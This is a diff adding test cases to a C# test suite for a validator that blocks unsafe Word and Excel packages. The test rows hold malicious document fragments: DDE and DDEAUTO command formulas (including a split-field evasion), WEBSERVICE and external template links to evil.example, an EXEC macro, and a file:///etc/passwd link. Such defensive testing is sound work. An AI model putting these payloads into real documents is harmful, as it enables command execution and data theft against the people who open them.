@@ -19,6 +19,19 @@ public class SafePackageTests
         { "word/document.xml", "<x", "is not well-formed" },
         { "word/document.xml", "<w:document xmlns:w=\"w\"><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:document>", "runs or fetches something (DDEAUTO)" },
         { "word/document.xml", "<w:document xmlns:w=\"w\"><w:fldSimple w:instr=\" INCLUDETEXT file \"/></w:document>", "INCLUDETEXT" },
+        { "word/document.xml", W("<w:fldChar w:fldCharType=\"begin\"/><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText><w:fldChar w:fldCharType=\"separate\"/><w:fldChar w:fldCharType=\"end\"/>"), "(DDEAUTO)" },
+        { "word/document.xml", W("<w:fldChar w:fldCharType=\"begin\"/><w:fldChar w:fldCharType=\"begin\"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType=\"end\"/><w:fldChar w:fldCharType=\"end\"/>"), "whose name another field makes" },
+        { "word/document.xml", W("<w:altChunk/>"), "altChunk" },
+        { "word/activeX/activeX1.xml", "<x/>", "embedded object" },
+        { "xl/macrosheets/sheet1.xml", "<x/>", "macro sheet" },
+        { "xl/connections.xml", "<x/>", "data connection" },
+        { "xl/worksheets/sheet1.xml", "<worksheet><c><f>cmd|' /C calc'!A0</f></c></worksheet>", "(DDE)" },
+        { "xl/worksheets/sheet1.xml", "<worksheet><c><f>_xlfn.WEBSERVICE (\"http://evil.example\")</f></c></worksheet>", "(WEBSERVICE)" },
+        { "xl/workbook.xml", "<workbook><definedName>EXEC(\"calc\")</definedName></workbook>", "(EXEC)" },
+        { "xl/worksheets/sheet1.xml", "<worksheet><oleObjects><oleObject/></oleObjects></worksheet>", "(oleObject)" },
+        { "C:/windows/x.xml", "<x/>", "leads out of the file" },
+        { "word/document.xml", "<x>\u0001</x>", "is not well-formed" },
+        { "word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://x/image\" Target=\"http://evil.example/a.png\" TargetMode=\"External\"/></Relationships>", "points to something outside the file" },
         { "word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>", "points to something outside the file" },
         { "word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://x/hyperlink\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/></Relationships>", "points to something outside the file" },
     };
@@ -46,6 +59,12 @@ public class SafePackageTests
     [Fact]
     public void A_link_to_a_page_is_let_through() =>
         Assert.NotNull(SafePackage.Open(Zip(("word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://x/hyperlink\" Target=\"https://example.org/\" TargetMode=\"External\"/></Relationships>")), "form.docx"));
+
+    [Theory, InlineData("IF(A1=\"a|b\",'x|y'!A1,SUM(A1:A2))"), InlineData("RECALL(1)")]
+    public void A_formula_that_only_counts_is_let_through(string formula) =>
+        Assert.NotNull(SafePackage.Open(Zip(("xl/worksheets/sheet1.xml", $"<worksheet><c><f>{formula}</f></c></worksheet>")), "form.xlsx"));
+
+    private static string W(string inside) => $"<w:document xmlns:w=\"w\">{inside}</w:document>";
 
     private static byte[] Zip((string Part, string Content) part) =>
         WordPackage.Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes(Types)), (part.Part, Encoding.UTF8.GetBytes(part.Content))]);
